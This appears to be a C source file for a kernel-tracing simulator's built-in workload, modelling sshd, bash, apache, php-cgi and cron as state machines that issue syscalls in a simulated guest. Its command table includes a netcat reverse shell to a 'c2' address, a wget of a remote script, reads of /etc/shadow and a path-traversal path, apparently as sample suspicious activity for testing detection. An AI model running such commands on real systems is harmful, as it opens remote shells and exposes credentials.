// SPDX-License-Identifier: GPL-2.0-only
/*
 * sim_prog.c - the built-in workload: user programs (init, sshd, bash and its commands,
 * apache2 with php-cgi workers that sometimes run a shell or die of SIGSEGV, cron running a
 * 32-bit legacy job) as small state machines. Each step writes its arguments into the
 * process's user memory (sometimes on not-present pages) and names one system call; the
 * vCPU then really enters the guest kernel with it. Also the tiny file table (VFS).
 *
 * Runs with vm->lock held, on the vCPU thread running the task. (One file on purpose: the
 * programs share the small argument-placing helpers above them.)
 */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "sim_vm.h"

/* ---- files ---- */
static const struct sim_file vfs[] = {
	{ "/", VF_DIR, NULL },
	{ "/etc/passwd", 0,
	  "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
	  "user:x:1000:1000:user:/home/user:/bin/bash\n" },
	{ "/etc/shadow", VF_ROOT, "root:$y$j9T$sim$:19700:0:99999:7:::\n" },
	{ "/etc/hosts", 0, "127.0.0.1 localhost\n" },
	{ "/etc/ld.so.cache", 0, "ld.so-1.7.0" },
	{ "/etc/cron.hourly", VF_DIR, NULL },
	{ "/lib/x86_64-linux-gnu/libc.so.6", 0, "\177ELF" },
	{ "/home/user", VF_DIR, NULL },
	{ "/home/user/.bashrc", 0, "# ~/.bashrc\n" },
	{ "/etc", VF_DIR, NULL },
	{ "/tmp", VF_DIR, NULL },
	{ "/tmp/x", VF_LINK, "/etc/shadow" }, /* links that reach /etc/shadow by other names */
	{ "/var/www/html/s", VF_LINK, "../../../etc/shadow" },
	{ "/var", VF_DIR, NULL },
	{ "/var/www", VF_DIR, NULL },
	{ "/var/www/html", VF_DIR, NULL },
	{ "/var/www/html/index.php", 0, "<?php echo 'hello'; ?>\n" },
	{ "/var/log/syslog", 0, "" },
	{ "/var/log/apache2/access.log", 0, "" },
	{ "/bin/bash", VF_EXEC, "\177ELF" },
	{ "/bin/sh", VF_EXEC, "\177ELF" },
	{ "/bin/ls", VF_EXEC, "\177ELF" },
	{ "/bin/cat", VF_EXEC, "\177ELF" },
	{ "/bin/sleep", VF_EXEC, "\177ELF" },
	{ "/bin/run-parts", VF_EXEC, "\177ELF" },
	{ "/usr/bin/id", VF_EXEC, "\177ELF" },
	{ "/usr/bin/uname", VF_EXEC, "\177ELF" },
	{ "/usr/bin/wget", VF_EXEC, "\177ELF" },
	{ "/usr/bin/nc", VF_EXEC, "\177ELF" },
	{ "/usr/bin/php-cgi", VF_EXEC, "\177ELF" },
	{ "/usr/sbin/sshd", VF_EXEC, "\177ELF" },
	{ "/usr/sbin/apache2", VF_EXEC, "\177ELF" },
	{ "/usr/sbin/cron", VF_EXEC, "\177ELF" },
	{ "/opt/legacy/bin/logrotate32", VF_EXEC32, "\177ELF" },
};

int dt_sim_vfs_lookup(const char *path)
{
	size_t i;

	for (i = 0; i < sizeof(vfs) / sizeof(vfs[0]); i++)
		if (!strcmp(vfs[i].path, path))
			return (int)i;
	return -ENOENT;
}

const struct sim_file *dt_sim_vfs_get(int idx)
{
	return &vfs[idx];
}

/* ---- syscall numbers by name, per ABI ---- */
#define USYS(X)                                                                         \
	X(read) X(write) X(open) X(openat) X(close) X(socket) X(connect) X(accept4)        \
	X(bind) X(listen) X(sendto) X(recvfrom) X(fork) X(execve) X(exit_group) X(wait4)    \
	X(kill) X(getpid) X(getppid) X(getuid) X(getgid) X(geteuid) X(setuid) X(setgid)     \
	X(setresuid) X(setresgid) X(nanosleep) X(clock_nanosleep) X(socketcall)             \
	X(getdents64) X(uname) X(getuid32) X(getgid32)
#define UENUM(n) U_##n,
enum { USYS(UENUM) U_MAX };
#define UNAME(n) #n,
static const char *const unames[] = { USYS(UNAME) };
static int nr64[U_MAX], nr32[U_MAX];
static pthread_once_t nr_once = PTHREAD_ONCE_INIT;

static void nr_init(void)
{
	size_t u, i;

	for (u = 0; u < U_MAX; u++) {
		nr64[u] = nr32[u] = -1;
		for (i = 0; i < dt_sim_sysnr_64_len; i++)
			if (!strcmp(dt_sim_sysnr_64[i].name, unames[u]))
				nr64[u] = (int)dt_sim_sysnr_64[i].nr;
		for (i = 0; i < dt_sim_sysnr_32_len; i++)
			if (!strcmp(dt_sim_sysnr_32[i].name, unames[u]))
				nr32[u] = (int)dt_sim_sysnr_32[i].nr;
	}
}

/* ---- building a call ---- */
struct ub {
	struct sim_task *t;
	struct sim_ucall *uc;
	uint64_t off, npoff;
};

static uint64_t put(struct ub *u, const void *p, size_t n, bool np)
{
	struct sim_mm *mm = u->t->mm;
	uint64_t *off = np ? &u->npoff : &u->off, lim = np ? 2 * SIM_PAGE : mm->arena_len, va;

	*off = (*off + 7) & ~7ULL;
	if (*off + n > lim)
		*off = 0;
	va = (np ? mm->np : mm->arena) + *off;
	dt_sim_uput(u->t, va, p, n);
	*off += n;
	return va;
}

static uint64_t str(struct ub *u, const char *s, bool np)
{
	return put(u, s, strlen(s) + 1, np);
}

static uint64_t zbuf(struct ub *u, size_t n)
{
	static const uint8_t zero[512];

	return put(u, zero, n < sizeof(zero) ? n : sizeof(zero), false);
}

static uint64_t strv(struct ub *u, const char *const *v, bool np)
{
	uint64_t ptrs[16];
	uint32_t p32[16];
	size_t n;

	for (n = 0; v[n] && n < 15; n++) {
		ptrs[n] = str(u, v[n], np);
		p32[n] = (uint32_t)ptrs[n];
	}
	ptrs[n] = 0;
	p32[n] = 0;
	return u->t->compat ? put(u, p32, (n + 1) * 4, np) : put(u, ptrs, (n + 1) * 8, np);
}

static uint64_t sin4(struct ub *u, const uint8_t ip[4], uint16_t port)
{
	uint8_t sa[16] = { 2, 0, (uint8_t)(port >> 8), (uint8_t)port, ip[0], ip[1], ip[2], ip[3] };

	return put(u, sa, sizeof(sa), false);
}

static uint64_t int_in(struct ub *u, int32_t v)
{
	return put(u, &v, 4, false);
}

static uint64_t timespec(struct ub *u, int64_t sec, int64_t nsec)
{
	int64_t ts[2] = { sec, nsec };
	int32_t t32[2] = { (int32_t)sec, (int32_t)nsec };

	return u->t->compat ? put(u, t32, 8, false) : put(u, ts, 16, false);
}

static void sc(struct ub *u, int unr, uint64_t a0, uint64_t a1, uint64_t a2, uint64_t a3,
	       uint64_t a4, uint64_t a5)
{
	struct sim_ucall *uc = u->uc;
	int nr = u->t->compat ? nr32[unr] : nr64[unr];

	uc->act = UA_SYSCALL;
	uc->nr = nr < 0 ? 9999 : nr;
	uc->a[0] = a0, uc->a[1] = a1, uc->a[2] = a2;
	uc->a[3] = a3, uc->a[4] = a4, uc->a[5] = a5;
}
#define SC(u, n, ...) sc(u, U_##n, __VA_ARGS__)

static uint64_t rnd(struct sim_task *t, uint64_t n)
{
	return sim_rand_below(&t->vm->seed, n);
}

static bool chance(struct sim_task *t, unsigned pct)
{
	return rnd(t, 100) < pct;
}

static const char *const envp[] = { "PATH=/usr/bin:/bin", "LANG=C.UTF-8", NULL };

/* commands the shells run */
enum {
	C_ID, C_LS, C_CAT, C_UNAME, C_WGET, C_SHADOW, C_SLEEP, C_NC, C_MISSING, C_SH,
	C_PHP, C_BASH, C_SSHD, C_APACHE, C_CRON, C_RUNPARTS, C_LEGACY, C_CRONSH, C_MAX
};
static const struct {
	const char *path;
	const char *argv[6];
} cmds[C_MAX] = {
	[C_ID] = { "/usr/bin/id", { "id", NULL } },
	[C_LS] = { "/bin/ls", { "ls", "-la", "/home/user", NULL } },
	[C_CAT] = { "/bin/cat", { "cat", "/etc/passwd", NULL } },
	[C_UNAME] = { "/usr/bin/uname", { "uname", "-a", NULL } },
	[C_WGET] = { "/usr/bin/wget", { "wget", "http://93.184.216.34/x.sh", NULL } },
	[C_SHADOW] = { "/bin/cat", { "cat", "/etc/shadow", NULL } },
	[C_SLEEP] = { "/bin/sleep", { "sleep", "30", NULL } },
	[C_NC] = { "/usr/bin/nc", { "nc", "-e", "/bin/sh", "10.0.0.66", "4444", NULL } },
	[C_MISSING] = { "/tmp/.x", { "/tmp/.x", NULL } },
	[C_SH] = { "/bin/sh", { "sh", "-c", "id; uname -a", NULL } },
	[C_PHP] = { "/usr/bin/php-cgi", { "php-cgi", "/var/www/html/index.php", NULL } },
	[C_BASH] = { "/bin/bash", { "-bash", NULL } },
	[C_SSHD] = { "/usr/sbin/sshd", { "/usr/sbin/sshd", "-D", NULL } },
	[C_APACHE] = { "/usr/sbin/apache2", { "/usr/sbin/apache2", "-k", "start", NULL } },
	[C_CRON] = { "/usr/sbin/cron", { "/usr/sbin/cron", "-f", NULL } },
	[C_RUNPARTS] = { "/bin/run-parts", { "run-parts", "/etc/cron.hourly", NULL } },
	[C_LEGACY] = { "/opt/legacy/bin/logrotate32", { "logrotate32", NULL } },
	[C_CRONSH] = { "/bin/sh", { "/bin/sh", "-c", "run-parts /etc/cron.hourly", NULL } },
};

/*
 * fork + exec of cmd, over three program counters starting at pc: the parent continues
 * at `next` with prog.child set (or prog.child < 0 if fork failed).
 */
static bool fork_exec(struct ub *u, int pc, int cmd, int next)
{
	struct sim_prog *p = &u->t->prog;
	bool np = chance(u->t, 10);

	if (p->pc == pc) {
		p->cmd = cmd;
		SC(u, fork, 0, 0, 0, 0, 0, 0);
		p->pc = pc + 1;
		return true;
	}
	if (p->pc == pc + 1) {
		if (p->last == 0) { /* the child */
			SC(u, execve, str(u, cmds[p->cmd].path, np), strv(u, cmds[p->cmd].argv, np),
			   strv(u, envp, false), 0, 0, 0);
			p->pc = pc + 2;
			return true;
		}
		p->child = (int)p->last;
		p->pc = next;
		return false;
	}
	if (p->pc == pc + 2) { /* exec failed */
		SC(u, exit_group, 127, 0, 0, 0, 0, 0);
		return true;
	}
	return false;
}

static void wait_child(struct ub *u, int pid, int next)
{
	SC(u, wait4, (uint64_t)(int64_t)pid, zbuf(u, 4), 0, 0, 0, 0);
	u->t->prog.pc = next;
}

static void do_exit(struct ub *u, int code)
{
	SC(u, exit_group, (uint64_t)code, 0, 0, 0, 0, 0);
}

#define AT_FDCWD ((uint64_t)-100)
static const uint8_t ip_any[4] = { 0, 0, 0, 0 }, ip_lo[4] = { 127, 0, 0, 1 };
static const uint8_t ip_web[4] = { 93, 184, 216, 34 }, ip_c2[4] = { 10, 0, 0, 66 };
static const uint8_t ip_log[4] = { 10, 0, 0, 5 };

/* ---- programs ---- */
static void p_init(struct ub *u)
{
	struct sim_task *t = u->t;
	struct sim_prog *p = &t->prog;
	static const int svc[3] = { C_SSHD, C_APACHE, C_CRON };
	int i;

again:
	switch (p->pc) {
	case 0:
		p->pc = t->vm->workload ? 1 : 20;
		p->aux = 0;
		p->step = 0;
		goto again;
	case 1:
	case 2:
	case 3:
		if (fork_exec(u, 1, svc[p->aux], 4))
			return;
		goto again;
	case 4:
		p->svc[p->aux] = p->child;
		p->step = 1; /* spawned */
		if (!p->fd && ++p->aux < 3) {
			p->pc = 1;
			goto again;
		}
		p->fd = 0;
		p->pc = 20;
		goto again;
	case 20:
		if (t->vm->workload && !p->step) {
			p->pc = 0;
			goto again;
		}
		wait_child(u, -1, 21);
		return;
	case 21:
		if (p->last == -ECHILD) {
			SC(u, nanosleep, timespec(u, 1, 0), 0, 0, 0, 0, 0);
			p->pc = 20;
			return;
		}
		for (i = 0; i < 3; i++) {
			if (p->last > 0 && p->svc[i] == p->last && t->vm->workload) {
				p->aux = i; /* respawn this one service */
				p->fd = 1;
				p->pc = 1;
				goto again;
			}
		}
		p->pc = 20;
		goto again;
	}
	p->pc = 0;
}

static void p_sshd(struct ub *u)
{
	struct sim_task *t = u->t;
	struct sim_prog *p = &t->prog;

again:
	switch (p->pc++) {
	case 0:
		SC(u, socket, 2, 1 | 02000000, 0, 0, 0, 0);
		return;
	case 1:
		p->fd = (int)p->last;
		SC(u, bind, (uint64_t)p->fd, sin4(u, ip_any, 22), 16, 0, 0, 0);
		return;
	case 2:
		SC(u, listen, (uint64_t)p->fd, 128, 0, 0, 0, 0);
		return;
	case 3:
		if (!t->vm->workload)
			return do_exit(u, 0);
		SC(u, accept4, (uint64_t)p->fd, zbuf(u, 16), int_in(u, 16), 0, 0, 0);
		return;
	case 4:
		p->conn = (int)p->last;
		if (p->conn < 0) {
			p->pc = 3;
			goto again;
		}
		SC(u, fork, 0, 0, 0, 0, 0, 0);
		return;
	case 5:
		if (p->last == 0) {
			p->pc = 10;
			goto again;
		}
		SC(u, close, (uint64_t)p->conn, 0, 0, 0, 0, 0);
		p->pc = 6;
		return;
	case 6: /* reap finished sessions (SIGCHLD handler) */
		SC(u, wait4, (uint64_t)-1, 0, 1 /* WNOHANG */, 0, 0, 0);
		return;
	case 7:
		p->pc = p->last > 0 ? 6 : 3;
		goto again;
	case 10:
		SC(u, openat, AT_FDCWD, str(u, "/etc/passwd", chance(t, 20)), 0, 0, 0, 0);
		return;
	case 11:
		p->aux = (int)p->last;
		SC(u, read, (uint64_t)p->aux, zbuf(u, 512), 512, 0, 0, 0);
		return;
	case 12:
		SC(u, close, (uint64_t)p->aux, 0, 0, 0, 0, 0);
		return;
	case 13:
		SC(u, openat, AT_FDCWD, str(u, "/etc/shadow", false), 0, 0, 0, 0);
		return;
	case 14:
		SC(u, close, (uint64_t)p->last, 0, 0, 0, 0, 0);
		return;
	case 15:
		SC(u, setresgid, 1000, 1000, 1000, 0, 0, 0);
		return;
	case 16:
		SC(u, setresuid, 1000, 1000, 1000, 0, 0, 0);
		p->pc = 17;
		return;
	case 17:
	case 18:
	case 19:
		p->pc--;
		if (fork_exec(u, 17, C_BASH, 25))
			return;
		goto again;
	case 25:
		wait_child(u, p->child, 26);
		return;
	case 26:
		SC(u, close, (uint64_t)p->conn, 0, 0, 0, 0, 0);
		return;
	default:
		return do_exit(u, 0);
	}
}

static void p_bash(struct ub *u)
{
	struct sim_task *t = u->t;
	struct sim_prog *p = &t->prog;
	static const int menu[] = { C_ID, C_LS, C_CAT, C_UNAME, C_WGET, C_SHADOW, C_SLEEP,
				    C_NC, C_MISSING };

again:
	switch (p->pc) {
	case 0:
		p->step = 2 + (int)rnd(t, 3);
		p->pc = 1;
		goto again;
	case 1:
		if (p->step-- <= 0)
			return do_exit(u, 0);
		p->cmd = menu[rnd(t, sizeof(menu) / sizeof(menu[0]))];
		p->pc = 2;
		goto again;
	case 2:
	case 3:
	case 4:
		if (fork_exec(u, 2, p->cmd, 5))
			return;
		goto again;
	case 5:
		if (p->child < 0) {
			p->pc = 1;
			goto again;
		}
		if (p->cmd == C_SLEEP) {
			SC(u, nanosleep, timespec(u, 0, 50000000), 0, 0, 0, 0, 0);
			p->pc = 6;
			return;
		}
		wait_child(u, p->child, 1);
		return;
	case 6:
		SC(u, kill, (uint64_t)p->child, 15, 0, 0, 0, 0);
		p->pc = 7;
		return;
	case 7:
		wait_child(u, p->child, 1);
		return;
	}
	p->pc = 0;
}

static void p_cmd(struct ub *u)
{
	struct sim_task *t = u->t;
	struct sim_prog *p = &t->prog;
	const char *c = t->comm;
	int pc = p->pc++;

	if (!strcmp(c, "id")) {
		if (pc == 0)
			return SC(u, getuid, 0, 0, 0, 0, 0, 0);
		if (pc == 1)
			return SC(u, getgid, 0, 0, 0, 0, 0, 0);
		if (pc == 2)
			return SC(u, geteuid, 0, 0, 0, 0, 0, 0);
		if (pc == 3)
			return SC(u, write, 1, str(u, "uid=1000(user)\n", false), 15, 0, 0, 0);
	} else if (!strcmp(c, "ls")) {
		if (pc == 0)
			return SC(u, openat, AT_FDCWD,
				  str(u, p->arg[0] && p->arg[0] != '-' ? p->arg : "/home/user", false),
				  0200000 | 02000000, 0, 0, 0);
		if (pc == 1)
			p->fd = (int)p->last;
		if (pc == 1 || pc == 2)
			return SC(u, getdents64, (uint64_t)p->fd, zbuf(u, 512), 512, 0, 0, 0);
		if (pc == 3)
			return SC(u, close, (uint64_t)p->fd, 0, 0, 0, 0, 0);
		if (pc == 4)
			return SC(u, write, 1, str(u, ".\n", false), 2, 0, 0, 0);
	} else if (!strcmp(c, "cat")) {
		if (pc == 0)
			return SC(u, openat, AT_FDCWD, str(u, p->arg, chance(t, 25)), 0, 0, 0, 0);
		if (pc == 1) {
			p->fd = (int)p->last;
			if (p->fd < 0)
				return do_exit(u, 1);
			return SC(u, read, (uint64_t)p->fd, zbuf(u, 512), 512, 0, 0, 0);
		}
		if (pc == 2)
			return SC(u, write, 1, str(u, "root:x:0:0\n", false), 11, 0, 0, 0);
		if (pc == 3)
			return SC(u, close, (uint64_t)p->fd, 0, 0, 0, 0, 0);
	} else if (!strcmp(c, "sleep")) {
		if (pc == 0)
			return SC(u, clock_nanosleep, 0, 0, timespec(u, 30, 0), 0, 0, 0);
	} else if (!strcmp(c, "uname")) {
		if (pc == 0)
			return SC(u, uname, zbuf(u, 390), 0, 0, 0, 0, 0);
		if (pc == 1)
			return SC(u, write, 1, str(u, "Linux\n", false), 6, 0, 0, 0);
	} else if (!strcmp(c, "wget") || !strcmp(c, "nc")) {
		bool nc = c[0] == 'n';

		if (pc == 0)
			return SC(u, socket, 2, 1, 0, 0, 0, 0);
		if (pc == 1) {
			p->fd = (int)p->last;
			return SC(u, connect, (uint64_t)p->fd,
				  sin4(u, nc ? ip_c2 : ip_web, nc ? 4444 : 80), 16, 0, 0, 0);
		}
		if (pc == 2) {
			if (p->last < 0)
				return do_exit(u, 1);
			return SC(u, sendto, (uint64_t)p->fd, str(u, "GET /x.sh HTTP/1.0\r\n\r\n",
								  false), 22, 0, 0, 0);
		}
		if (pc == 3)
			return SC(u, recvfrom, (uint64_t)p->fd, zbuf(u, 256), 256, 0, 0, 0);
		if (pc == 4)
			return SC(u, close, (uint64_t)p->fd, 0, 0, 0, 0, 0);
	} else if (!strcmp(c, "run-parts")) {
		p->pc--;
		switch (p->pc) {
		case 0:
			p->pc = 1;
			return SC(u, openat, AT_FDCWD, str(u, "/etc/cron.hourly", false), 0200000,
				  0, 0, 0);
		case 1:
			p->fd = (int)p->last;
			p->pc = 2;
			return SC(u, getdents64, (uint64_t)p->fd, zbuf(u, 512), 512, 0, 0, 0);
		case 2:
			p->pc = 3;
			return SC(u, close, (uint64_t)p->fd, 0, 0, 0, 0, 0);
		case 3:
		case 4:
		case 5:
			if (fork_exec(u, 3, C_LEGACY, 6))
				return;
			/* fallthrough */
		case 6:
			if (p->pc == 6 && p->child > 0) {
				wait_child(u, p->child, 7);
				return;
			}
			break;
		}
	}
	return do_exit(u, 0);
}

static void p_sh(struct ub *u)
{
	struct sim_task *t = u->t;
	struct sim_prog *p = &t->prog;
	bool rp = strstr(p->arg, "run-parts") != NULL;

again:
	switch (p->pc) {
	case 0:
		p->step = 0;
		p->pc = 1;
		goto again;
	case 1:
		if (p->step >= (rp ? 1 : 2))
			return do_exit(u, 0);
		p->cmd = rp ? C_RUNPARTS : (p->step ? C_UNAME : C_ID);
		p->step++;
		p->pc = 2;
		goto again;
	case 2:
	case 3:
	case 4:
		if (fork_exec(u, 2, p->cmd, 5))
			return;
		goto again;
	case 5:
		if (p->child < 0) {
			p->pc = 1;
			goto again;
		}
		wait_child(u, p->child, 1);
		return;
	}
	p->pc = 0;
}

static void p_apache(struct ub *u)
{
	struct sim_task *t = u->t;
	struct sim_prog *p = &t->prog;

again:
	switch (p->pc++) {
	case 0:
		SC(u, socket, 2, 1, 0, 0, 0, 0);
		return;
	case 1:
		p->fd = (int)p->last;
		SC(u, bind, (uint64_t)p->fd, sin4(u, ip_any, 80), 16, 0, 0, 0);
		return;
	case 2:
		SC(u, listen, (uint64_t)p->fd, 511, 0, 0, 0, 0);
		p->aux = 0;
		return;
	case 3:
		SC(u, fork, 0, 0, 0, 0, 0, 0);
		return;
	case 4:
		if (p->last == 0) {
			p->pc = 10;
			goto again;
		}
		if (p->last > 0 && p->aux < 3)
			p->svc[p->aux] = (int)p->last;
		if (++p->aux < 2 && !p->step) {
			p->pc = 3;
			goto again;
		}
		p->step = 0;
		p->pc = 20;
		goto again;
	case 10:
		SC(u, setgid, 33, 0, 0, 0, 0, 0);
		return;
	case 11:
		SC(u, setuid, 33, 0, 0, 0, 0, 0);
		p->kind = P_WORKER;
		p->pc = 0;
		return;
	case 20:
		wait_child(u, -1, 21);
		return;
	case 21:
		if (p->last == -ECHILD)
			return do_exit(u, 0);
		if (p->last > 0 && t->vm->workload) {
			p->step = 1; /* respawn one worker */
			p->pc = 3;
			goto again;
		}
		p->pc = 20;
		goto again;
	default:
		return do_exit(u, 0);
	}
}

static void p_worker(struct ub *u)
{
	struct sim_task *t = u->t;
	struct sim_prog *p = &t->prog;

again:
	switch (p->pc) {
	case 0:
		if (!t->vm->workload)
			return do_exit(u, 0);
		SC(u, accept4, (uint64_t)p->fd, zbuf(u, 16), int_in(u, 16), 02000000, 0, 0);
		p->pc = 1;
		return;
	case 1:
		p->conn = (int)p->last;
		if (p->conn < 0) {
			p->pc = 0;
			goto again;
		}
		SC(u, recvfrom, (uint64_t)p->conn, zbuf(u, 512), 512, 0, 0, 0);
		p->pc = 2;
		return;
	case 2:
		SC(u, openat, AT_FDCWD,
		   str(u, chance(t, 10) ? "/var/www/html/../../../etc/passwd"
					: "/var/www/html/index.php",
		       chance(t, 15)),
		   0, 0, 0, 0);
		p->pc = 3;
		return;
	case 3:
		p->aux = (int)p->last;
		if (p->aux >= 0) {
			SC(u, read, (uint64_t)p->aux, zbuf(u, 256), 256, 0, 0, 0);
			p->pc = 4;
			return;
		}
		p->pc = 5;
		goto again;
	case 4:
		SC(u, close, (uint64_t)p->aux, 0, 0, 0, 0, 0);
		p->pc = 5;
		return;
	case 5:
	case 6:
	case 7:
		if (fork_exec(u, 5, C_PHP, 8))
			return;
		goto again;
	case 8:
		if (p->child > 0) {
			wait_child(u, p->child, 9);
			return;
		}
		p->pc = 9;
		goto again;
	case 9:
		SC(u, sendto, (uint64_t)p->conn, str(u, "HTTP/1.1 200 OK\r\n\r\nhello", false), 24,
		   0, 0, 0);
		p->pc = 10;
		return;
	case 10:
		SC(u, close, (uint64_t)p->conn, 0, 0, 0, 0, 0);
		p->pc = 0;
		return;
	}
	p->pc = 0;
}

static void p_php(struct ub *u)
{
	struct sim_task *t = u->t;
	struct sim_prog *p = &t->prog;
	uint64_t r;

again:
	switch (p->pc) {
	case 0:
		SC(u, openat, AT_FDCWD, str(u, "/var/www/html/index.php", chance(t, 10)), 0, 0, 0,
		   0);
		p->pc = 1;
		return;
	case 1:
		p->fd = (int)p->last;
		SC(u, read, (uint64_t)p->fd, zbuf(u, 256), 256, 0, 0, 0);
		p->pc = 2;
		return;
	case 2:
		SC(u, close, (uint64_t)p->fd, 0, 0, 0, 0, 0);
		p->pc = 3;
		return;
	case 3:
		r = rnd(t, 100);
		if (r < 12) { /* a bug: NULL dereference, SIGSEGV */
			u->uc->act = UA_SEGV;
			p->pc = 30;
			return;
		}
		p->pc = r < 32 ? 10 : r < 47 ? 20 : 30;
		goto again;
	case 10:
	case 11:
	case 12:
		if (fork_exec(u, 10, C_SH, 13))
			return;
		goto again;
	case 13:
		if (p->child > 0) {
			wait_child(u, p->child, 30);
			return;
		}
		p->pc = 30;
		goto again;
	case 20:
		SC(u, socket, 2, 1, 0, 0, 0, 0);
		p->pc = 21;
		return;
	case 21:
		p->fd = (int)p->last;
		SC(u, connect, (uint64_t)p->fd, sin4(u, ip_lo, 3306), 16, 0, 0, 0);
		p->pc = 22;
		return;
	case 22:
		SC(u, close, (uint64_t)p->fd, 0, 0, 0, 0, 0);
		p->pc = 30;
		return;
	case 30:
		SC(u, write, 1, str(u, "<html>hello</html>\n", false), 19, 0, 0, 0);
		p->pc = 31;
		return;
	}
	return do_exit(u, 0);
}

static void p_cron(struct ub *u)
{
	struct sim_task *t = u->t;
	struct sim_prog *p = &t->prog;

again:
	switch (p->pc) {
	case 0:
		SC(u, clock_nanosleep, 0, 0, timespec(u, 1 + (int64_t)rnd(t, 2), 0), 0, 0, 0);
		p->pc = 1;
		return;
	case 1:
		if (!t->vm->workload)
			return do_exit(u, 0);
		p->pc = 2;
		goto again;
	case 2:
	case 3:
	case 4:
		if (fork_exec(u, 2, C_CRONSH, 5))
			return;
		goto again;
	case 5:
		if (p->child > 0) {
			wait_child(u, p->child, 0);
			return;
		}
		p->pc = 0;
		goto again;
	}
	p->pc = 0;
}

/* an i386 binary: int $0x80 calls, sockets through socketcall */
static void p_legacy(struct ub *u)
{
	struct sim_task *t = u->t;
	struct sim_prog *p = &t->prog;
	uint32_t a[3];

	switch (p->pc++) {
	case 0:
		return SC(u, open, str(u, "/var/log/syslog", chance(t, 20)), 01 | 02000 | 0100,
			  0644, 0, 0, 0);
	case 1:
		p->fd = (int)p->last;
		return SC(u, write, (uint64_t)p->fd, str(u, "logrotate: ok\n", false), 14, 0, 0,
			  0);
	case 2:
		return SC(u, close, (uint64_t)p->fd, 0, 0, 0, 0, 0);
	case 3:
		a[0] = 2, a[1] = 1, a[2] = 0;
		return SC(u, socketcall, 1, put(u, a, 12, false), 0, 0, 0, 0);
	case 4:
		p->fd = (int)p->last;
		a[0] = (uint32_t)p->fd;
		a[1] = (uint32_t)sin4(u, ip_log, 514);
		a[2] = 16;
		return SC(u, socketcall, 3, put(u, a, 12, chance(t, 30)), 0, 0, 0, 0);
	case 5:
		return SC(u, close, (uint64_t)p->fd, 0, 0, 0, 0, 0);
	case 6:
		return SC(u, getpid, 0, 0, 0, 0, 0, 0);
	case 7:
		return SC(u, nanosleep, timespec(u, 0, 10000000), 0, 0, 0, 0, 0);
	}
	return do_exit(u, 0);
}

void dt_sim_prog_step(struct sim_task *t, struct sim_ucall *uc)
{
	struct ub u = { .t = t, .uc = uc };

	pthread_once(&nr_once, nr_init);
	memset(uc, 0, sizeof(*uc));
	if (!t->mm) {
		uc->act = UA_IDLE;
		return;
	}
	dt_sim_np_reset(t);
	switch (t->prog.kind) {
	case P_INIT:
		p_init(&u);
		break;
	case P_SSHD:
	case P_SSHD_CHILD:
		p_sshd(&u);
		break;
	case P_BASH:
		p_bash(&u);
		break;
	case P_CMD:
		p_cmd(&u);
		break;
	case P_SH:
		p_sh(&u);
		break;
	case P_APACHE:
		p_apache(&u);
		break;
	case P_WORKER:
		p_worker(&u);
		break;
	case P_PHP:
		p_php(&u);
		break;
	case P_CRON:
		p_cron(&u);
		break;
	case P_LEGACY32:
		p_legacy(&u);
		break;
	case P_SCRIPT:
		dt_sim_script_step(t, uc);
		break;
	case P_NONE:
		uc->act = UA_IDLE;
		break;
	}
}

void dt_sim_prog_result(struct sim_task *t, int64_t ret)
{
	if (t->prog.kind == P_SCRIPT)
		dt_sim_script_result(t, ret);
	else
		t->prog.last = ret;
}

void dt_sim_prog_exec(struct sim_task *t, const char *path)
{
	static const struct {
		const char *path;
		enum sim_progkind kind;
	} map[] = {
		{ "/usr/sbin/sshd", P_SSHD },	  { "/usr/sbin/apache2", P_APACHE },
		{ "/usr/sbin/cron", P_CRON },	  { "/bin/bash", P_BASH },
		{ "/bin/sh", P_SH },		  { "/usr/bin/php-cgi", P_PHP },
		{ "/opt/legacy/bin/logrotate32", P_LEGACY32 },
	};
	struct sim_prog *p = &t->prog;
	const char *a = t->exec_argv;
	size_t i, left = sizeof(t->exec_argv), skip;

	if (p->kind == P_SCRIPT)
		return;
	memset(p, 0, sizeof(*p));
	p->kind = P_CMD;
	for (i = 0; i < sizeof(map) / sizeof(map[0]); i++)
		if (!strcmp(map[i].path, path))
			p->kind = map[i].kind;
	/* argv[1], or argv[2] for "sh -c" */
	for (skip = p->kind == P_SH ? 2 : 1; skip; skip--) {
		size_t n = strnlen(a, left);

		if (n + 1 >= left) {
			left = 0;
			break;
		}
		a += n + 1;
		left -= n + 1;
	}
	if (left && t->exec_argc > (p->kind == P_SH ? 2 : 1))
		snprintf(p->arg, sizeof(p->arg), "%.*s", (int)strnlen(a, left), a);
}

void dt_sim_workload_start(struct sim_vm *vm)
{
	vm->workload = true;
	if (vm->init && vm->init->state == TS_SLEEPING && vm->init->wake_ns)
		vm->init->wake_ns = dt_sim_now_ns();
	dt_sim_vm_wake(vm);
}
